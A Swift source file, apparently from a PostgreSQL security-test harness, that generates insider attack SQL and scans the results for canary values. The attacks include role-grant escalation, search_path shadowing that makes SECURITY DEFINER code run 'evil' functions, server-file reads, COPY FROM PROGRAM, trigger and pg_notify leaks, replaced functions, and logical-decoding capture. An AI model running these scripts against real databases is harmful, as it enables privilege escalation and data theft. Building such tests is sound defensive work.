import Foundation

/// The SQL an insider logged in as one role runs against an `AttackScenario`: every technique
/// the harness knows, each attempt wrapped so that a failure only ends that attempt. Whatever
/// reaches the client (rows, notices, notifications, decoded changes) is searched for canaries.
///
/// Techniques: reading as itself and as every role it may SET ROLE to; granting itself every
/// role it can (ADMIN OPTION, CREATEROLE before 16), to a fixpoint; an owner granting itself
/// back what it revoked; definer views and SQL-standard definer functions; shadowing the
/// unqualified name a definer function, definer trigger or aggregate support function reads
/// (a temporary view, or a view in a schema it can create in, put first in its search_path)
/// so that the definer runs its code; pg_statistic; the server-file functions and COPY FROM
/// PROGRAM; replacing a function a definer's SQL-standard body calls, then calling the definer;
/// firing rewrite rules whose actions return rows; creating a trigger on a classified
/// table and replacing a trigger function or a function the table's CHECK constraint,
/// generated column or index calls, then having another role write; logical decoding; writing
/// classified columns directly and through definer views; probing whether a value exists
/// (a unique violation, a foreign key of its own).
struct AttackScripts {
    let scenario: AttackScenario

    private var allRoles: [String] {
        scenario.roles + ["pg_read_all_data", "pg_read_all_stats", "pg_monitor", "pg_execute_server_program", "pg_read_server_files",
                          "pg_write_server_files", "pg_write_all_data"] + (scenario.major >= 17 ? ["pg_maintain"] : [])
    }

    private static func literal(_ text: String) -> String { "'" + text.replacingOccurrences(of: "'", with: "''") + "'" }

    private var roleArray: String { "ARRAY[\(allRoles.map(Self.literal).joined(separator: ", "))]::text[]" }

    /// PL/pgSQL statements that try every read as the current user and raise what they find.
    /// Assumes `v text` is declared. `label` names the acting role in the notice.
    private func readStatements(label: String) -> String {
        var queries: [String] = []
        for table in scenario.classified {
            queries.append("SELECT string_agg(t::text, ',') FROM \(table.name) t")
            for column in table.columns { queries.append("SELECT string_agg(\(column)::text, ',') FROM \(table.name)") }
        }
        for view in scenario.views + scenario.children { queries.append("SELECT string_agg(v::text, ',') FROM \(view) v") }
        for call in scenario.readerCalls { queries.append("SELECT string_agg(x::text, ',') FROM \(call) x") }
        queries.append("SELECT string_agg(s::text, ',') FROM pg_catalog.pg_statistic s")
        for table in scenario.classified {
            let oid = "(SELECT c.oid FROM pg_catalog.pg_class c WHERE c.oid = \(Self.literal(table.name))::regclass)"
            queries.append("""
                SELECT string_agg(m[1], ',') FROM pg_catalog.regexp_matches(pg_catalog.encode(pg_catalog.pg_read_binary_file(pg_catalog.pg_relation_filepath(\(oid))), 'escape'), '(cn7s[0-9]+t[0-9]+c[0-9]+z)', 'g') m
                """)
        }
        return queries.map { query in
            "BEGIN EXECUTE \(Self.literal(query)) INTO v; IF v IS NOT NULL THEN RAISE NOTICE 'LOOT % %', \(label), v; END IF; EXCEPTION WHEN others THEN NULL; END;"
        }.joined(separator: "\n")
    }

    /// The server-file program route (pg_execute_server_program): grep the relation's file.
    private func programStatements(label: String) -> String {
        scenario.classified.map { table in
            """
            BEGIN
              EXECUTE 'CREATE TEMP TABLE IF NOT EXISTS loot_program (l text)';
              EXECUTE format('COPY loot_program FROM PROGRAM %L', 'grep -a -o "cn7s[0-9]*t[0-9]*c[0-9]*z" ' || pg_catalog.pg_relation_filepath(\(Self.literal(table.name))::regclass));
              SELECT string_agg(l, ',') INTO v FROM loot_program;
              IF v IS NOT NULL THEN RAISE NOTICE 'LOOT % %', \(label), v; END IF;
            EXCEPTION WHEN others THEN NULL; END;
            """
        }.joined(separator: "\n")
    }

    /// Grants to the session user every role the current user can grant, and SELECT on every
    /// classified relation and view it can grant (owner or grant option).
    private func grantEverything(to grantee: String) -> String {
        let relations = scenario.classified.map(\.name) + scenario.views
        return """
            FOR r IN SELECT unnest(\(roleArray)) LOOP
              BEGIN EXECUTE format('GRANT %I TO %I', r, \(grantee)); changed := true; EXCEPTION WHEN others THEN NULL; END;
            END LOOP;
            \(relations.map { "BEGIN EXECUTE format('GRANT SELECT, TRIGGER ON \($0) TO %I', \(grantee)); EXCEPTION WHEN others THEN NULL; END;" }.joined(separator: "\n"))
            """
    }

    /// A DO block: as itself and every role it may become, grant itself what it can, to a fixpoint.
    var escalation: String {
        """
        DO $esc$
        DECLARE a text; r text; changed boolean := true; rounds int := 0;
        BEGIN
          WHILE changed AND rounds < 6 LOOP
            changed := false;
            rounds := rounds + 1;
            FOR a IN SELECT unnest(ARRAY[session_user::text] || \(roleArray)) LOOP
              BEGIN
                EXECUTE format('SET ROLE %I', a);
                \(grantEverything(to: "session_user"))
                RESET ROLE;
              EXCEPTION WHEN others THEN NULL; END;
            END LOOP;
          END LOOP;
          RESET ROLE;
        END $esc$;
        """
    }

    /// A DO block: every read as itself and as every role it may become.
    var reading: String {
        """
        DO $read$
        DECLARE a text; v text;
        BEGIN
          FOR a IN SELECT unnest(ARRAY[session_user::text] || \(roleArray)) LOOP
            BEGIN
              EXECUTE format('SET ROLE %I', a);
              \(readStatements(label: "a"))
              \(programStatements(label: "a"))
              RESET ROLE;
            EXCEPTION WHEN others THEN NULL; END;
          END LOOP;
          RESET ROLE;
        END $read$;
        """
    }

    /// The code a redirected definer runs as its owner: grants the session user everything the
    /// owner can grant, then reads (raising what it finds).
    private func evilBody(returning: String = "RETURN NEXT 1;") -> String {
        """
        DECLARE r text; v text; changed boolean := false;
        BEGIN
          \(grantEverything(to: "session_user"))
          \(readStatements(label: "'definer ' || current_user"))
          \(returning)
        END
        """
    }

    /// Definer shadowing, as itself and as every role it may become: a temporary view named like
    /// the relation the definer's body reads, or a view in a schema it can create in (first in
    /// its search_path), calling a function of its own; then the statement that runs the definer.
    var shadowing: String {
        guard !scenario.redirectable.isEmpty else { return "" }
        var attempts: [String] = []
        for (n, target) in scenario.redirectable.enumerated() {
            let temp = """
                EXECUTE $f$CREATE OR REPLACE FUNCTION pg_temp.evil\(n)() RETURNS SETOF int LANGUAGE plpgsql AS $ev$ \(evilBody()) $ev$$f$;
                EXECUTE $f$CREATE OR REPLACE TEMP VIEW \(target.shadow) AS SELECT * FROM pg_temp.evil\(n)() AS x(id)$f$;
                EXECUTE $f$GRANT SELECT ON pg_temp.\(target.shadow) TO PUBLIC$f$;
                EXECUTE \(Self.literal(target.statement));
                """
            attempts.append(temp)
            for schema in scenario.schemas + ["public"] {
                attempts.append("""
                    EXECUTE $f$CREATE OR REPLACE FUNCTION \(schema).evil\(n)() RETURNS SETOF int LANGUAGE plpgsql AS $ev$ \(evilBody()) $ev$$f$;
                    EXECUTE $f$GRANT EXECUTE ON FUNCTION \(schema).evil\(n)() TO PUBLIC$f$;
                    EXECUTE $f$CREATE OR REPLACE VIEW \(schema).\(target.shadow) AS SELECT * FROM \(schema).evil\(n)() AS x(id)$f$;
                    EXECUTE $f$GRANT SELECT ON \(schema).\(target.shadow) TO PUBLIC$f$;
                    PERFORM pg_catalog.set_config('search_path', \(Self.literal(schema + ", public")), true);
                    EXECUTE \(Self.literal(target.statement));
                    PERFORM pg_catalog.set_config('search_path', '"$user", public', true);
                    """)
            }
        }
        return """
            DO $shadow$
            DECLARE a text;
            BEGIN
              FOR a IN SELECT unnest(ARRAY[session_user::text] || \(roleArray)) LOOP
                \(attempts.map { "BEGIN EXECUTE format('SET ROLE %I', a); \($0) RESET ROLE; EXCEPTION WHEN others THEN NULL; END;" }.joined(separator: "\n"))
              END LOOP;
              RESET ROLE;
            END $shadow$;
            """
    }

    /// Statements whose rewrite rules return rows, as itself and as every role it may become
    /// (each behind a savepoint, so a refusal does not end the transaction).
    private var firingRules: String {
        scenario.ruleFirings.flatMap { statement in
            (["RESET ROLE;"] + allRoles.map { "SET ROLE \($0);" }).map { actor in
                "SAVEPOINT fire; \(actor) \(statement); ROLLBACK TO SAVEPOINT fire;"
            }
        }.joined(separator: "\n")
    }

    /// Replacing the functions definer bodies call, as every role it may become, then calling
    /// the definers as every role it may become: the replacement runs as the definer's owner.
    var replacingCallees: String {
        guard !scenario.replaceableCallees.isEmpty else { return "" }
        let attempts = scenario.replaceableCallees.map { target in
            """
            BEGIN
              EXECUTE format('SET ROLE %I', a);
              EXECUTE $f$CREATE OR REPLACE FUNCTION \(target.callee) RETURNS int LANGUAGE plpgsql AS $ev$ \(evilBody(returning: "RETURN 1;")) $ev$$f$;
              FOR b IN SELECT unnest(ARRAY[session_user::text] || \(roleArray)) LOOP
                BEGIN EXECUTE format('SET ROLE %I', b); EXECUTE \(Self.literal(target.definerCall)); EXCEPTION WHEN others THEN NULL; END;
              END LOOP;
              RESET ROLE;
            EXCEPTION WHEN others THEN NULL; END;
            """
        }
        return """
            DO $callee$
            DECLARE a text; b text;
            BEGIN
              FOR a IN SELECT unnest(ARRAY[session_user::text] || \(roleArray)) LOOP
                \(attempts.joined(separator: "\n"))
              END LOOP;
              RESET ROLE;
            END $callee$;
            """
    }

    /// One attempt that changes data, undone at once (the raised error rolls its block back):
    /// `statement` runs, and when it touched a row, `marker` is raised.
    private static func undoneWrite(_ statement: String, marker: String, how: String) -> String {
        """
        BEGIN
          EXECUTE \(literal(statement));
          GET DIAGNOSTICS n = ROW_COUNT;
          IF n > 0 THEN RAISE NOTICE 'WROTE % %', \(literal(how)), \(literal(marker)); END IF;
          RAISE EXCEPTION 'undo';
        EXCEPTION WHEN others THEN NULL; END;
        """
    }

    /// An existence probe, undone at once: `setup`, then the canary and another value inserted
    /// `into` a target; it answers (raising `marker`) when each does what it must — raise the
    /// named error, or succeed where none is named.
    private static func probe(into target: String, canary: String, marker: String, canaryRaises: String?, otherRaises: String?, setup: String? = nil) -> String {
        func attempt(_ value: String, _ flag: String, raises: String?) -> String {
            let insert = literal("INSERT INTO \(target) VALUES (\(literal(value)))")
            return raises.map { "BEGIN EXECUTE \(insert); \(flag) := false; EXCEPTION WHEN \($0) THEN \(flag) := true; END;" }
                ?? "BEGIN EXECUTE \(insert); \(flag) := true; EXCEPTION WHEN others THEN \(flag) := false; END;"
        }
        return """
            BEGIN
              \(setup.map { "EXECUTE \(literal($0));" } ?? "")
              \(attempt(canary, "hit", raises: canaryRaises))
              \(attempt(canary + "q", "other", raises: otherRaises))
              IF hit AND other THEN RAISE NOTICE 'PROBED %', \(literal(marker)); END IF;
              RAISE EXCEPTION 'undo';
            EXCEPTION WHEN others THEN NULL; END;
            """
    }

    /// Writes and existence probes on every classified column, directly and through the
    /// writable definer views: an UPDATE or INSERT that reaches a row raises its marker, and so
    /// does a probe that tells the canary from another value (a unique violation; a foreign key
    /// of its own, in any schema it can create in, checked as the referenced table's owner).
    private var writeStatements: String {
        var attempts: [String] = []
        for table in scenario.classified {
            let targets = [table.name] + scenario.writableViews.filter { $0.table == table.index }.map(\.view)
            for (c, column) in table.columns.enumerated() {
                let update = scenario.marker("u", table: table.index, column: c)
                let insert = scenario.marker("i", table: table.index, column: c)
                for target in targets {
                    let how = target == table.name ? "directly" : "through a definer view"
                    attempts.append(Self.undoneWrite("UPDATE \(target) SET \(column) = \(Self.literal(update))", marker: update, how: how))
                    attempts.append(Self.undoneWrite("INSERT INTO \(target) (\(column)) VALUES (\(Self.literal(insert)))", marker: insert, how: how))
                }
                // Definer code writing this column raises its own WROTE notice when the write lands.
                for writer in scenario.definerWriters where writer.table == table.index && writer.column == c {
                    let statement = writer.statement.replacingOccurrences(of: "{marker}", with: update)
                    attempts.append("BEGIN EXECUTE \(Self.literal(statement)); RAISE EXCEPTION 'undo'; EXCEPTION WHEN others THEN NULL; END;")
                }
                let canary = scenario.canary(table: table.index, column: c)
                let probe = scenario.marker("p", table: table.index, column: c)
                // A unique violation for the canary, none for another value.
                attempts.append(Self.probe(
                    into: "\(table.name) (\(column))", canary: canary, marker: probe, canaryRaises: "unique_violation", otherRaises: nil))
                // A foreign key of its own: the canary is accepted, another value is not.
                for schema in scenario.schemas + ["public"] {
                    let probeTable = "\(schema).\(scenario.prefix)probe"
                    attempts.append(Self.probe(
                        into: probeTable, canary: canary, marker: probe, canaryRaises: nil, otherRaises: "foreign_key_violation",
                        setup: "CREATE TABLE \(probeTable) (x text REFERENCES \(table.name) (\(column)))"))
                }
            }
        }
        return attempts.joined(separator: "\n")
    }

    /// A DO block: every write and probe as itself and as every role it may become.
    var writing: String {
        """
        DO $write$
        DECLARE a text; n bigint; hit boolean; other boolean;
        BEGIN
          FOR a IN SELECT unnest(ARRAY[session_user::text] || \(roleArray)) LOOP
            BEGIN
              EXECUTE format('SET ROLE %I', a);
              \(writeStatements)
              RESET ROLE;
            EXCEPTION WHEN others THEN NULL; END;
          END LOOP;
          RESET ROLE;
        END $write$;
        """
    }

    /// The transactional attack: escalate, redirect definers, replace callees, read, write and
    /// probe, fire rules; rolled back.
    var transactional: String {
        "BEGIN;\n\(escalation)\n\(shadowing)\n\(replacingCallees)\n\(escalation)\n\(reading)\n\(writing)\n\(firingRules)\nROLLBACK;\n"
    }

    /// The attack that needs another role to write: escalate (committed), plant triggers on the
    /// classified tables and replace their trigger functions as every role it may become, open a
    /// logical decoding slot, then `writer` (a shell command) updates every classified table;
    /// notifications and decoded changes carry the rows back.
    func watching(writer: String) -> String {
        var lines = [escalation, "LISTEN loot;"]
        let actors = ["RESET ROLE;"] + allRoles.map { "RESET ROLE; SET ROLE \($0);" }
        let notify = "PERFORM pg_catalog.pg_notify('loot', current_user || ' ' || row_to_json(NEW)::text);"
        for (i, actor) in actors.enumerated() {
            lines.append(actor)
            lines.append("CREATE FUNCTION pg_temp.watch\(i)() RETURNS trigger LANGUAGE plpgsql AS $w$ BEGIN \(notify) RETURN NEW; END $w$;")
            for (t, table) in scenario.classified.enumerated() {
                lines.append("CREATE TRIGGER loot_\(i)_\(t) AFTER UPDATE ON \(table.name) FOR EACH ROW EXECUTE FUNCTION pg_temp.watch\(i)();")
            }
            for function in scenario.replaceableTriggerFunctions {
                lines.append("CREATE OR REPLACE FUNCTION \(function) RETURNS trigger LANGUAGE plpgsql AS $w$ BEGIN \(notify) RETURN NEW; END $w$;")
            }
            for function in scenario.replaceableExpressionFunctions {
                let result = function.returns == "boolean" ? "true" : "md5($1)"
                lines.append("""
                    CREATE OR REPLACE FUNCTION \(function.signature) RETURNS \(function.returns) LANGUAGE plpgsql IMMUTABLE AS $w$ \
                    BEGIN PERFORM pg_catalog.pg_notify('loot', 'expr ' || current_user || ' ' || $1); RETURN \(result); END $w$;
                    """)
            }
            lines.append("SELECT 'slot', pg_catalog.pg_create_logical_replication_slot('loot_' || pg_catalog.pg_backend_pid() || '_\(i)', 'test_decoding', true);")
        }
        lines.append("RESET ROLE;")
        lines.append("\\! \(writer)")
        lines.append("SELECT 'delivered';")
        for (i, actor) in actors.enumerated() {
            lines.append(actor)
            lines.append("SELECT data FROM pg_catalog.pg_logical_slot_get_changes('loot_' || pg_catalog.pg_backend_pid() || '_\(i)', NULL, NULL);")
        }
        return lines.joined(separator: "\n") + "\n"
    }
}
